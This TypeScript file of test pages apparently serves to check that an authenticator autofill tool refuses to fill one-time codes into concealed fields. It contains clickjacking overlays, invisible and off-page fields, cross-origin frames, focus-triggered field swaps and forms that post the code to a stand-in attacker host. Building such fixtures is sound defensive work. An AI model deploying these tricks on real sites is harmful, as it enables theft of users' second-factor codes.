// Pages that ask for an authenticator's code as Headway does, and try to get it where no person would put it:
// into what is covered, faint, tiny or elsewhere, into another's frame or form, or without anybody's act.

export type Trap = {
  readonly name: string;
  /** Within the body, after the heading. */
  readonly body: string;
  readonly style?: string;
  /**
   * Runs in the page before Waykey is asked. A trap that springs at a focus says by `isSprung` whether it
   * has: what a person saw being filled before that is no loot.
   */
  readonly script?: string;
  /** Documents for frames, served by name at `/traps/frames/NAME` of every host. */
  readonly frames?: Readonly<Record<string, string>>;
  /** The one field that may hold the code: a selector. Null: the page gets no code at all. */
  readonly mayHold: string | null;
};

const FIELD = `<label for="code">Code from your authenticator app</label>
<input id="code" name="code" inputmode="numeric" autocomplete="one-time-code" maxlength="6">`;
const BUTTON = `<button type="button">Continue</button>`;
const inForm = (field: string) => `<form>${field}${BUTTON}</form>`;
const BOX = `position: absolute; left: 0; top: 0; width: 600px; height: 400px`;

/** A field that is not seen itself, over six cells that are, as some sites ask for codes. */
const CELLS = `<div style="position: relative; width: 300px; height: 50px"><div aria-hidden="true"
  style="display: flex; gap: 6px">${`<i style="width: 42px; height: 48px; border: 1px solid"></i>`.repeat(6)}</div>
  <input id="code" name="code" inputmode="numeric" maxlength="6" aria-label="Code from your authenticator app"
  style="position: absolute; inset: 0; width: 100%; opacity: 0"></div>`;

export const TRAPS: readonly Trap[] = [
  {
    name: "an opaque cover over the field",
    body: `${inForm(FIELD)}<div style="${BOX}; background: #fff">Nothing to see</div>`,
    mayHold: null,
  },
  {
    name: "a cover that lets clicks through",
    body: `${inForm(FIELD)}<div style="${BOX}; background: #fff; pointer-events: none">Nothing</div>`,
    mayHold: null,
  },
  {
    name: "a cover that lets clicks through, earlier in the page and inside a positioned box",
    body: `<div style="${BOX}; z-index: 5; pointer-events: none"><div style="width: 600px;
      height: 400px; background: rgb(255 255 255 / 0.95)">Nothing</div></div>${inForm(FIELD)}`,
    mayHold: null,
  },
  {
    name: "an unseen field over drawn cells",
    body: inForm(CELLS),
    mayHold: null,
  },
  {
    name: "a cover that lets clicks through, over drawn cells and the unseen field on them",
    body: `${inForm(CELLS)}<div style="${BOX}; background: #fff; pointer-events: none">Nothing</div>`,
    mayHold: null,
  },
  {
    name: "drawn cells that are as faint as the field on them",
    body: `<div style="opacity: 0.1">${inForm(CELLS)}</div>`,
    mayHold: null,
  },
  {
    name: "an unseen field beside drawn cells",
    style: "#code { top: 60px !important }",
    body: inForm(CELLS),
    mayHold: null,
  },
  {
    name: "a form that goes to another site, with drawn cells",
    body: `<form action="https://evilheadway.co/collect" method="post">${CELLS}${BUTTON}</form>`,
    mayHold: null,
  },
  {
    name: "a picture that lets clicks through",
    body: `${inForm(FIELD)}<svg style="${BOX}; pointer-events: none" viewBox="0 0 6 4"
      preserveAspectRatio="none"><rect width="6" height="4" fill="white"/></svg>`,
    mayHold: null,
  },
  {
    name: "a cover that lets clicks through, in a shadow root",
    body: `${inForm(FIELD)}<div><template shadowrootmode="open"><div style="${BOX};
      background: #fff; pointer-events: none">Nothing</div></template></div>`,
    mayHold: null,
  },
  {
    name: "a cover that lets clicks through, in a closed shadow root",
    body: `${inForm(FIELD)}<div><template shadowrootmode="closed"><div style="${BOX};
      background: #fff; pointer-events: none">Nothing</div></template></div>`,
    mayHold: null,
  },
  {
    name: "a label that holds the field and paints over it",
    style: `#l { position: relative; display: block }
      #l::after { content: ""; position: absolute; inset: 0; background: #fff }`,
    body: inForm(`<label id="l">Code from your authenticator app <input id="code" name="code"
      inputmode="numeric" maxlength="6"></label>`),
    mayHold: null,
  },
  {
    name: "a form that paints over its field and lets clicks through",
    style: `form { position: relative }
      form::after { content: ""; position: absolute; inset: 0; background: #fff; pointer-events: none }`,
    body: inForm(FIELD),
    mayHold: null,
  },
  {
    name: "a page that paints over itself before its content",
    style: `body::before { content: ""; position: fixed; inset: 0; background: rgb(255 255 255 / 0.9);
      pointer-events: none; z-index: 3 }`,
    body: inForm(FIELD),
    mayHold: null,
  },
  {
    name: "a heading that paints a picture over the field below",
    style: `h1 { position: relative } h1::after { content: ""; position: absolute; left: 0; top: 100%;
      width: 600px; height: 400px; pointer-events: none;
      background: url('data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"/>') #eee }`,
    body: inForm(FIELD),
    mayHold: null,
  },
  {
    name: "something painted from beside the page that is moved over the field",
    style: `body::after { content: ""; position: absolute; left: -900px; top: 0; width: 600px;
      height: 400px; background: #fff; pointer-events: none; translate: 150%; z-index: 1 }`,
    body: inForm(FIELD),
    mayHold: null,
  },
  {
    name: "something painted in the flow and drawn back over the field",
    style: `form::after { content: ""; display: block; position: relative; height: 300px;
      margin-top: -200px; background: #fff; pointer-events: none }`,
    body: inForm(FIELD),
    mayHold: null,
  },
  {
    name: "something painted in the same cell of a grid",
    style: `.cell { display: grid; width: 300px } .cell > * { grid-area: 1 / 1 }
      .cell::after { content: ""; grid-area: 1 / 1; background: #fff; pointer-events: none }`,
    body: inForm(`<div class="cell"><input id="code" name="code" maxlength="6"
      aria-label="Code from your authenticator app"></div>`),
    mayHold: null,
  },
  {
    name: "a cover that lets clicks through, in the same cell of a grid",
    style: `.cell { display: grid; width: 300px } .cell > * { grid-area: 1 / 1 }
      .cell > i { background: #fff; pointer-events: none }`,
    body: inForm(`<div class="cell"><input id="code" name="code" maxlength="6"
      aria-label="Code from your authenticator app"><i></i></div>`),
    mayHold: null,
  },
  {
    name: "a cover that lets clicks through, above all by its own level in a box that has none",
    body: `<div style="position: relative"><div style="${BOX}; z-index: 5; background: #fff;
      pointer-events: none">Nothing</div></div><div style="position: relative; z-index: 1">
      ${inForm(FIELD)}</div>`,
    mayHold: null,
  },
  {
    name: "what usual widgets and grounds paint around and below a field",
    style: `body::before { content: ""; position: fixed; inset: 0; z-index: -1; background: #eef }
      body::after { content: ""; position: fixed; inset: 0; z-index: 9999; pointer-events: none;
        opacity: 0.05; background: url('data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg"/>') }
      main { position: relative } main::before { content: ""; position: absolute; inset: 0;
        background: linear-gradient(#fff, #eef); pointer-events: none } main > * { position: relative }
      main::after { content: ""; display: table; clear: both }
      .logo::before { content: ""; display: block; height: 80px; width: 400px; background: #336 }
      .text-field { position: relative; width: 300px; display: inline-block }
      .text-field::before, .text-field::after { content: ""; position: absolute; left: 0; right: 0; bottom: 0;
        height: 2px; background: #336; pointer-events: none } .text-field::after { transform: scaleX(0) }
      .text-field input { width: 100%; height: 56px; padding-top: 20px }
      .ripple { position: absolute; inset: 0; pointer-events: none }
      .ripple::before, .ripple::after { content: ""; position: absolute; inset: 0; background: #000; opacity: 0.12 }
      .text-field label { position: absolute; left: 8px; top: 8px; z-index: 2; pointer-events: none }
      .text-field label::after { content: ""; position: absolute; inset: 2px 0; z-index: -1; background: #fff }
      button { position: relative; overflow: hidden } button::after { content: ""; position: absolute;
        inset: 0; width: 900px; height: 500px; background: #fff; translate: -100% }
      .switch::after { content: ""; position: absolute; width: 20px; height: 20px; background: #336 }`,
    body: `<main><div class="logo"></div><form><div class="text-field"><span class="ripple"></span>
      <input id="code" name="code" inputmode="numeric" maxlength="6"><label for="code">Code from your
      authenticator app</label></div><p class="switch">Remember me</p>${BUTTON}</form></main>`,
    mayHold: "#code",
  },
  {
    name: "opacity on what the field lies in",
    body: `<div style="opacity: 0.5"><div style="opacity: 0.3"><div style="opacity: 0.1">
      ${inForm(FIELD)}</div></div></div>`,
    mayHold: null,
  },
  {
    name: "a filter on what the field lies in",
    body: `<div style="filter: opacity(2%)">${inForm(FIELD)}</div>`,
    mayHold: null,
  },
  {
    name: "no size to speak of",
    style: "#code { width: 1px; height: 1px; padding: 0; border: 0 }",
    body: inForm(FIELD),
    mayHold: null,
  },
  {
    name: "a scale of nothing",
    body: `<div style="transform: scale(0.01)">${inForm(FIELD)}</div>`,
    mayHold: null,
  },
  {
    name: "a clip that leaves nothing",
    style: "#code { clip-path: inset(50%) }",
    body: inForm(FIELD),
    mayHold: null,
  },
  {
    name: "a place beyond the edge of the page",
    style: "#code { position: absolute; left: -5000px; top: 50px }",
    body: inForm(FIELD),
    mayHold: null,
  },
  {
    name: "a fixed place below the window",
    style: "#code { position: fixed; top: 200vh }",
    body: inForm(FIELD),
    mayHold: null,
  },
  {
    name: "a frame of another site",
    body: `<iframe src="https://evilheadway.co/traps/frames/field" width="500" height="200"></iframe>`,
    frames: { field: `<h1>Two-factor sign-in</h1>${inForm(FIELD)}` },
    mayHold: null,
  },
  {
    name: "a frame without an origin of its own",
    body: `<iframe sandbox="allow-scripts" srcdoc='${inForm(FIELD)}' width="500" height="200"></iframe>`,
    mayHold: null,
  },
  {
    name: "a frame of the same origin that shows nothing",
    body: `<iframe src="/traps/frames/own" width="1" height="1"></iframe>`,
    frames: { own: `<h1>Two-factor sign-in</h1>${inForm(FIELD)}` },
    mayHold: null,
  },
  {
    name: "a box that shows one pixel of the field",
    body: `<div style="width: 1px; height: 1px; overflow: hidden">${inForm(FIELD)}</div>`,
    mayHold: null,
  },
  {
    name: "a form that goes to another site",
    body: `<form action="https://evilheadway.co/collect" method="post">${FIELD}${BUTTON}</form>`,
    mayHold: null,
  },
  {
    name: "a field that is put under a cover when it takes the focus",
    body: `${inForm(FIELD)}<div id="cover" hidden style="${BOX}; background: #fff">Covered</div>`,
    script: `document.querySelector("#code").addEventListener("focus", () => {
      document.querySelector("#cover").hidden = false;
    });
    window.isSprung = () => !document.querySelector("#cover").hidden;`,
    mayHold: null,
  },
  {
    name: "a field that is exchanged when it takes the focus",
    body: `${inForm(FIELD)}<p id="later" style="opacity: 0.01"></p>`,
    script: `const code = document.querySelector("#code");
    code.addEventListener("focus", () => {
      if (!code.isConnected) return;
      const other = code.cloneNode();
      other.id = "other";
      kept.push(code, other);
      code.replaceWith(document.createElement("span"));
      document.querySelector("#later").append(other);
      other.focus();
    });
    window.isSprung = () => !code.isConnected;`,
    mayHold: null,
  },
  {
    name: "a field that becomes one for a texted code when it takes the focus",
    body: inForm(FIELD),
    script: `const code = document.querySelector("#code");
    code.addEventListener("focus", () => {
      document.querySelector("h1").textContent = "Enter the code we texted to your phone";
      document.querySelector("label").textContent = "Text message code";
      document.title = "Check your phone";
    });
    window.isSprung = () => document.title === "Check your phone";`,
    mayHold: null,
  },
  {
    name: "a hidden twin before the field",
    body: `<div style="opacity: 0"><input name="code" autocomplete="one-time-code"
      aria-label="Code from your authenticator app"></div>${inForm(FIELD)}`,
    mayHold: "#code",
  },
  {
    name: "a hidden field of the same name that copies nothing by itself",
    body: inForm(`<input type="hidden" name="code" autocomplete="one-time-code">
      <input name="website" tabindex="-1" autocomplete="one-time-code" style="position: absolute;
        left: -9999px">${FIELD}`),
    mayHold: "#code",
  },
  {
    name: "a popover that lets clicks through, above a field with a level of its own",
    body: `<div style="position: relative; z-index: 9">${inForm(FIELD)}</div><div id="p" popover="manual"
      style="${BOX}; margin: 0; border: 0; background: #fff; pointer-events: none">Nothing</div>`,
    script: `document.querySelector("#p").showPopover();`,
    mayHold: null,
  },
  {
    name: "the ground behind a popover",
    style: `#p::backdrop { background: #fff }`,
    body: `${inForm(FIELD)}<div id="p" popover="manual" style="inset: auto 0 0 auto; margin: 0">Hi</div>`,
    script: `document.querySelector("#p").showPopover();`,
    mayHold: null,
  },
  {
    name: "a cover in the flow that is painted as one with what it holds",
    body: `${inForm(FIELD)}<div style="contain: paint; margin-top: -200px; height: 400px; background: #fff;
      pointer-events: none">Nothing</div>`,
    mayHold: null,
  },
  {
    name: "the shadow of something elsewhere",
    body: `${inForm(FIELD)}<div style="position: absolute; left: 700px; top: 500px; width: 5px; height: 5px;
      box-shadow: 0 0 0 2000px #fff">.</div>`,
    mayHold: null,
  },
  {
    name: "two covers that let clicks through, of a half each",
    body: `${inForm(FIELD)}<div style="${BOX}; width: 90px; background: #fff; pointer-events: none"></div>
      <div style="${BOX}; left: 90px; background: #fff; pointer-events: none"></div>`,
    style: "#code { position: absolute; left: 0; width: 180px }",
    mayHold: null,
  },
  {
    name: "a cover of the page above, over the field within a frame",
    body: `<div style="position: relative"><iframe src="/traps/frames/below" width="900" height="700" style="border: 0"></iframe>
      <div style="position: absolute; left: 0; top: 0; width: 600px; height: 200px; background: #fff;
      pointer-events: none"></div></div>`,
    frames: { below: `<h1>Two-factor sign-in</h1>${inForm(FIELD)}` },
    mayHold: null,
  },
  {
    name: "a cover by styles alone, when the field takes the focus",
    style: `i { display: none } form:focus-within + i { display: block }`,
    body: `${inForm(FIELD)}<i style="${BOX}; background: #fff; pointer-events: none"></i>`,
    script: `window.isSprung = () => getComputedStyle(document.querySelector("i")).display === "block";`,
    mayHold: null,
  },
  {
    name: "a cover with a hole in its middle, where it is clicked",
    style: `#code { position: absolute; left: 100px; top: 100px; width: 200px; height: 40px; box-sizing: border-box }`,
    body: `${inForm(FIELD)}<div style="position: absolute; left: 90px; top: 90px; width: 220px; height: 60px; background: #fff;
      clip-path: polygon(evenodd, 0 0, 100% 0, 100% 100%, 0 100%, 0 0, 107px 27px, 113px 27px, 113px 33px, 107px 33px, 107px 27px)"></div>`,
    mayHold: null,
  },
  {
    name: "a mask that leaves nothing",
    body: `<div style="mask-image: linear-gradient(transparent, transparent)">${inForm(FIELD)}</div>`,
    mayHold: null,
  },
  {
    name: "a filter over the field that lets clicks through",
    body: `${inForm(FIELD)}<div style="${BOX}; backdrop-filter: blur(60px); pointer-events: none"></div>`,
    mayHold: null,
  },
  {
    name: "the outline of something elsewhere",
    body: `${inForm(FIELD)}<div style="position: absolute; left: 700px; top: 500px; width: 5px; height: 5px;
      outline: 2000px solid #fff">.</div>`,
    mayHold: null,
  },
  {
    name: "a line that is drawn around the field",
    body: inForm(`<div style="position: relative; width: 300px">${FIELD}<svg style="position: absolute; inset: -4px;
      width: 308px; height: 80px; pointer-events: none" viewBox="0 0 308 80"><rect x="1" y="1" width="306" height="78" rx="8"
      fill="none" stroke="#336"/></svg></div>`),
    mayHold: "#code",
  },
  {
    name: "the shadow around a spot that leaves the field free",
    body: `${inForm(FIELD)}<div style="position: absolute; left: 0; top: 0; width: 700px; height: 300px;
      pointer-events: none; box-shadow: 0 0 0 2000px #000a"></div>`,
    mayHold: "#code",
  },
  {
    name: "what buttons and full-width bands paint beyond themselves and cut off",
    style: `#b { position: relative; isolation: isolate; overflow: hidden; width: 300px; height: 44px; border: 0 }
      #b::before { content: ""; position: absolute; left: -100px; top: -200px; width: 500px; height: 500px; z-index: -2;
        background: conic-gradient(#36f, #f36, #36f) } #b::after { content: ""; position: absolute; inset: 2px;
        z-index: -1; background: #fff }
      #band { width: 300px; background: #eef; box-shadow: 0 0 0 100vmax #eef; clip-path: inset(0 -100vmax) }`,
    body: `<div id="band">Welcome</div><form>${FIELD}<br><button type="button" id="b">Continue</button></form>`,
    mayHold: "#code",
  },
  {
    name: "the outline of something in the flow",
    body: `${inForm(FIELD)}<div style="margin-top: 300px; width: 5px; outline: 2000px solid #fff">.</div>`,
    mayHold: null,
  },
  {
    name: "rings and a shadow around the field",
    style: `#code { position: relative; outline: 3px solid #36f; box-shadow: 0 0 0 6px #36f8, 0 30px 60px #0008;
      background: transparent; letter-spacing: 20px }`,
    body: inForm(`<div style="position: relative; width: 300px">${FIELD}</div>`),
    mayHold: "#code",
  },
  {
    name: "a page in grey",
    body: `<div style="filter: grayscale(1)">${inForm(FIELD)}</div>`,
    mayHold: "#code",
  },
  {
    name: "a page of twelve thousand elements",
    body: `${inForm(FIELD)}${'<div style="position: relative"><p><span>x</span></p></div>'.repeat(4000)}`,
    mayHold: "#code",
  },
  {
    name: "events that the page sends itself",
    body: inForm(FIELD),
    script: `const code = document.querySelector("#code");
    setInterval(() => {
      code.focus();
      for (const type of ["focusin", "click", "pointerdown", "mouseup"]) {
        code.dispatchEvent(new Event(type, { bubbles: true, composed: true }));
      }
      for (const key of ["Enter", "L"]) {
        const init = { key, altKey: key === "L", shiftKey: key === "L", bubbles: true };
        for (const type of ["keydown", "keyup"]) {
          code.dispatchEvent(new KeyboardEvent(type, init));
        }
      }
      document.dispatchEvent(new MessageEvent("message", { data: { type: "fill-code" } }));
      postMessage({ type: "fill-code", code: "123456" }, "*");
    }, 20);`,
    mayHold: "#code",
  },
];

export const EVENTS_TRAP = TRAPS.findIndex(({ name }) => name.startsWith("events that"));

const HTML = "text/html; charset=utf-8";

export function trapPath(index: number): string {
  return `/traps/${index}`;
}

/** What SiteOptions has as `guests`. */
export function serveTraps({
  pathname,
}: URL): { readonly type: string; readonly text: string } | null {
  const [, kind, name] = /^\/traps\/(?:(frames)\/)?([\w-]+)$/.exec(pathname) ?? [];
  if (name === undefined) return null;
  if (kind !== undefined) {
    const frame = TRAPS.find(({ frames }) => frames !== undefined && name in frames)?.frames?.[
      name
    ];
    return frame === undefined ? null : { type: HTML, text: `<!doctype html>${frame}` };
  }
  const trap = TRAPS[Number(name)];
  return trap === undefined ? null : { type: HTML, text: documentOf(trap) };
}

function documentOf({ style = "", body, script = "" }: Trap): string {
  return `<!doctype html>
<html lang="en">
<head><meta charset="utf-8"><title>Two-factor sign-in</title><style>${style}</style></head>
<body><h1>Enter the code from your authenticator app</h1>${body}
<script>const kept = window.kept = [];${script}</script></body>
</html>`;
}
